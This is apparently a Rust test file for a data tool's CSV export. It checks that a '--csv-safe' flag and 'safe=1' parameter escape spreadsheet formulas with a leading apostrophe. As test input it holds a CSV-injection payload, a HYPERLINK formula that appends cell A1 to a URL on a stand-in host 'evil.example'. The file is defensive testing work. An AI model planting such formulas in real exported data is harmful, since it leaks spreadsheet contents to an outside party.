//! CSV for spreadsheets: no text is taken for a formula.

use super::Server;
use crate::harness::{Warehouse, test_on_each_warehouse};

const FORMULA: &str = "=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Saare vald\\\")";
const CELL: &str = "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Saare vald\"\")\"";
const SAFE: &str = "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Saare vald\"\")\"";

fn formula_in_the_name_of_a_place_is_a_text_in_safe_csv(warehouse: Warehouse) {
    let work = warehouse.loaded();
    let boundaries = work.read("raw/lau/lau.geojson");
    assert!(boundaries.contains("Saare vald"));
    work.write("raw/lau/lau.geojson", boundaries.replace("Saare vald", FORMULA));
    work.ok(&["run-all", "--quiet"]);
    let query = |args: &[&str]| {
        work.ok(&[&["query", "users-per-lau", "--lau", "EE_0003"][..], args].concat())
    };
    // the default is unchanged
    let plain = query(&["--format", "csv"]);
    assert!(plain.contains(CELL) && !plain.contains(SAFE), "{plain}");
    let safe = query(&["--format", "csv", "--csv-safe"]);
    assert_eq!(safe, plain.replace(CELL, SAFE));
    query(&["--output", "out.csv", "--csv-safe"]);
    assert_eq!(work.read("out.csv"), safe);
    let server = Server::start(&work);
    let route = "/users-per-lau?lau=EE_0003";
    assert_eq!(server.get(&format!("{route}&format=csv")).ok(), plain);
    for query in ["&format=csv&safe=0", "&format=csv&safe="] {
        assert_eq!(server.get(&format!("{route}{query}")).ok(), plain, "{query}");
    }
    for query in ["&format=csv&safe=1", "&safe=true&format=csv"] {
        assert_eq!(server.get(&format!("{route}{query}")).ok(), safe, "{query}");
    }
    assert_eq!(server.get_with(&format!("{route}&safe=1"), "accept", "text/csv").ok(), safe);
    assert_eq!(server.get(&format!("{route}&format=csv&safe=2")).json()["parameter"], "safe");
    // other formats are no spreadsheets
    let json = server.get(&format!("{route}&format=json&safe=1")).json();
    assert!(json["rows"][0]["lau_name"].as_str().unwrap().starts_with("=HYPERLINK"), "{json}");
    // numbers are numbers
    let plan = server.get("/tables/cell_plan?format=csv").ok();
    assert_eq!(server.get("/tables/cell_plan?format=csv&safe=1").ok(), plan);
    // links on pages
    let page = server.get("/users-per-lau?format=html").ok();
    assert!(page.contains("format=csv&amp;safe=1"), "{page}");
    for path in ["/docs", "/quality?format=html"] {
        let page = server.get(path).ok();
        assert!(page.contains("format=csv&amp;safe=1"), "{path}: {page}");
        assert!(!page.contains("format=csv\""), "{path}: {page}");
    }
}

test_on_each_warehouse!(formula_in_the_name_of_a_place_is_a_text_in_safe_csv);

#[test]
fn every_command_that_writes_csv_has_the_flag() {
    let work = Warehouse::Embedded.loaded();
    let sql =
        "SELECT '@SUM(A1)' AS \"+name\", -7 AS n, -0.5 AS f, CAST(NULL AS VARCHAR) AS nothing";
    let query =
        |more: &[&str]| work.ok(&[&["query", "--sql", sql, "--format", "csv"], more].concat());
    assert_eq!(query(&[]), "+name,n,f,nothing\n@SUM(A1),-7,-0.5,\n");
    assert_eq!(query(&["--csv-safe"]), "'+name,n,f,nothing\n'@SUM(A1),-7,-0.5,\n");
    for args in [&["quality", "--format", "csv"][..], &["runs", "--format", "csv"]] {
        let plain = work.ok(args);
        assert_eq!(work.ok(&[args, &["--csv-safe"]].concat()), plain, "{args:?}");
    }
    for args in [&["query", "users-per-lau"][..], &["quality"], &["runs"]] {
        let args = [args, &["--csv-safe", "--format", "json"]].concat();
        work.fails(&args, 2, &["--csv-safe", "--format csv"]);
    }
}
